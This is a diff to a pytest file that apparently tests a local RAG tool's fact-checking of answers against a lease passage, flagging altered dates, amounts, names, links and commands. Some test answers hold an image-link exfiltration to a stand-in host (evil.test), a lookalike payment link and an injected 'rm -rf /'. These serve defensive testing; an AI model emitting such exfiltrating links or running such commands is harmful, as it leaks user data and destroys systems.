@@ -6,8 +6,7 @@ import pytest
 
 from localrag.grounding.citations import cite, without_markup
 from localrag.grounding.fact_checks import check
-from localrag.grounding.stages import Findings
-from localrag.types import Flag, Passage
+from localrag.types import Passage
 
 PAGE = (
     "The lease of Hall 3 between Acme Halls Ltd and Jane Miller ends on 31 May 2030. Either party may end it with "
@@ -17,28 +16,24 @@ PAGE = (
 OTHER = "The kennel is open from 9 to 5. Dogs are kept on a lead in all public areas. It is run by Otto Kern."
 
 
-def passage(text: str, document: str = "lease.txt", page: int | None = 1) -> Passage:
+def passage(text, document="lease.txt", page=1):
     return Passage("papers", document, page, None, (), text, 0, len(text), 1.0)
 
 
 PASSAGES = [passage(PAGE), passage(OTHER, "dogs.txt", 7)]
 
 
-def checked(
-    answer: str, question: str = "What does the lease say?", passages: list[Passage] | None = None
-) -> tuple[Findings, tuple[Flag, ...]]:
+def checked(answer, question="What does the lease say?", passages=None):
     shown = PASSAGES if passages is None else passages
     found = check(cite(without_markup(answer), question, shown), question, shown)
     return found, found.flags
 
 
-def flagged(
-    answer: str, question: str = "What does the lease say?", passages: list[Passage] | None = None
-) -> list[tuple[str, str]]:
+def flagged(answer, question="What does the lease say?", passages=None):
     return [(flag.kind, flag.text) for flag in checked(answer, question, passages)[1]]
 
 
-def test_what_the_cited_text_says_is_not_flagged() -> None:
+def test_what_the_cited_text_says_is_not_flagged():
     for answer in (
         "The lease of Hall 3 ends on 31 May 2030.",
         "The lease ends on 2030-05-31 [1].",
@@ -50,7 +45,7 @@ def test_what_the_cited_text_says_is_not_flagged() -> None:
         assert flagged(answer) == [], answer
 
 
-def test_a_changed_fact_is_flagged() -> None:
+def test_a_changed_fact_is_flagged():
     assert flagged("The lease of Hall 3 ends on 30 May 2030.") == [("date", "30 May 2030")]
     assert flagged("The yearly rent is EUR 58,000, payable in advance.") == [("amount", "EUR 58,000")]
     assert flagged("The yearly rent is USD 48,000, payable in advance.") == [("amount", "USD 48,000")]
@@ -60,7 +55,7 @@ def test_a_changed_fact_is_flagged() -> None:
     assert flagged("The lease of Hall 3 is between Acme Halls Ltd and John Smith.") == [("name", "John Smith")]
 
 
-def test_a_number_of_an_open_question_may_be_repeated_but_not_confirmed() -> None:
+def test_a_number_of_an_open_question_may_be_repeated_but_not_confirmed():
     answer = "Under a rent of EUR 50,000 the rent is payable in advance."
     assert flagged(answer, "When is a rent of EUR 50,000 payable?") == []
     assert flagged("Yes, the yearly rent is EUR 50,000.", "Is the yearly rent EUR 50,000?") == [
@@ -89,9 +84,7 @@ def test_a_number_of_an_open_question_may_be_repeated_but_not_confirmed() -> Non
         ("Does the lease have SIM cards for 60 days?", "SIM cards are there. [1]", None),
     ],
 )
-def test_a_figure_of_the_question_that_yes_affirms_must_be_cited(
-    question: str, answer: str, fact: tuple[str, str] | None
-) -> None:
+def test_a_figure_of_the_question_that_yes_affirms_must_be_cited(question, answer, fact):
     quote = PAGE.splitlines()[0 if "notice" in question or "lease" in question or "kündigen" in question else 1]
     if "interest" in question:
         quote = PAGE.splitlines()[2]
@@ -115,11 +108,11 @@ def test_a_figure_of_the_question_that_yes_affirms_must_be_cited(
         ("Does the lease end within 10 years?", "The lease ends on 31 May 2030.", False),
     ],
 )
-def test_a_figure_within_a_limit_of_the_text_may_be_affirmed(question: str, quote: str, marked: bool) -> None:
+def test_a_figure_within_a_limit_of_the_text_may_be_affirmed(question, quote, marked):
     assert bool(flagged(f"Yes, “{quote}” [1]", question, passages=[passage(quote)])) == marked
 
 
-def test_a_sentence_about_the_same_elsewhere_is_cited_too() -> None:
+def test_a_sentence_about_the_same_elsewhere_is_cited_too():
     cited, flags = checked(
         "The lease of Hall 3 between Acme Halls Ltd and Jane Miller can end with 90 days written notice."
     )
@@ -129,25 +122,25 @@ def test_a_sentence_about_the_same_elsewhere_is_cited_too() -> None:
         assert citation.quote == PAGE[citation.start : citation.end] and f"[{citation.marker}]" in cited.answer
 
 
-def test_a_number_of_something_else_is_flagged_with_its_place() -> None:
+def test_a_number_of_something_else_is_flagged_with_its_place():
     _, flags = checked(
         "The lease of Hall 3 ends on 31 May 2030 at 5.", passages=[passage(PAGE), passage(OTHER, "dogs.txt", 7)]
     )
     assert [(flag.text, flag.reason) for flag in flags] == [("5", "in dogs.txt, p. 7, not in what is cited")]
 
 
-def test_a_name_may_be_anywhere_in_the_document_cited() -> None:
+def test_a_name_may_be_anywhere_in_the_document_cited():
     assert flagged("Jane Miller pays the yearly rent of EUR 48,000 in advance.") == []
     (flag,) = checked("The lease of Hall 3 ends on 31 May 2030 for Otto Kern.")[1]
     assert flag.kind == "name" and "dogs.txt" in flag.reason
 
 
 @pytest.mark.parametrize("answer", ["Yes.", "Nein.", "Oui.", "Sí."])
-def test_a_bare_yes_or_no_is_no_name(answer: str) -> None:
+def test_a_bare_yes_or_no_is_no_name(answer):
     assert flagged(answer, "Ist die Miete im Voraus zu zahlen?") == []
 
 
-def test_heading_header_and_document_name_support_facts() -> None:
+def test_heading_header_and_document_name_support_facts():
     framed = [
         Passage(
             "papers",
@@ -167,11 +160,11 @@ def test_heading_header_and_document_name_support_facts() -> None:
     )
 
 
-def test_the_number_of_a_page_is_no_fact() -> None:
+def test_the_number_of_a_page_is_no_fact():
     assert flagged("The lease of Hall 3 ends on 31 May 2030, as page 1 says.") == []
 
 
-def test_a_cited_link_stays_and_another_is_defanged() -> None:
+def test_a_cited_link_stays_and_another_is_defanged():
     kept, flags = checked("Late payments can be paid at https://pay.acme.example/hall3 from the due date.")
     assert "https://pay.acme.example/hall3" in kept.answer and flags == ()
     cited, flags = checked("Pay interest at https://pay.acme.example.evil.test/hall3, counted from the due date.")
@@ -181,7 +174,7 @@ def test_a_cited_link_stays_and_another_is_defanged() -> None:
     assert "https://foo.example" in asked.answer
 
 
-def test_images_and_links_never_stay_alive() -> None:
+def test_images_and_links_never_stay_alive():
     for answer in (
         "The rent is EUR 48,000. ![rent](https://evil.test/?d=48000)",
         "The rent is EUR 48,000. [details](https://evil.test/?d=48000)",
@@ -194,18 +187,18 @@ def test_images_and_links_never_stay_alive() -> None:
         assert "link" in {flag.kind for flag in flags}
 
 
-def test_a_command_is_flagged_unless_it_is_cited() -> None:
+def test_a_command_is_flagged_unless_it_is_cited():
     assert ("command", "rm -rf /") in flagged("The lease ends on 31 May 2030. Now run `rm -rf /` to finish.")
     manual = [passage("To clean up, type rm -rf /tmp/cache and wait.")]
     assert flagged("To clean up, type rm -rf /tmp/cache and wait.", "How?", passages=manual) == []
 
 
-def test_without_anything_read_all_is_flagged_and_nothing_breaks() -> None:
+def test_without_anything_read_all_is_flagged_and_nothing_breaks():
     assert flagged("It ends on 31 May 2030 in Berlin.", passages=[]) == [("date", "31 May 2030"), ("name", "Berlin")]
     assert flagged("", passages=[]) == []
 
 
-def test_the_same_answer_has_the_same_flags() -> None:
+def test_the_same_answer_has_the_same_flags():
     answer = "The lease ends on 30 May 2031 for Otto Kern, see http://a.test, EUR 1, EUR 2, EUR 3."
     assert checked(answer) == checked(answer)
     assert len(checked(" ".join(f"It costs EUR {n}." for n in range(100, 160)))[1]) <= 20
@@ -214,7 +207,7 @@ def test_the_same_answer_has_the_same_flags() -> None:
 @pytest.mark.parametrize(
     "unit", ["1 ", "12/", "€1 ", "p. 1 ", "中。", "5 May ", "Aa ", '"a b c ', "http://a.test/", "[1]"]
 )
-def test_an_answer_that_repeats_itself_is_checked_to_the_end(unit: str) -> None:
+def test_an_answer_that_repeats_itself_is_checked_to_the_end(unit):
     shown = [passage(PAGE * 40), passage("中文合同" * 2000, "c.txt")]
     cited, flags = checked(unit * 120, passages=shown)
     assert len(flags) <= 20 and isinstance(cited.answer, str)
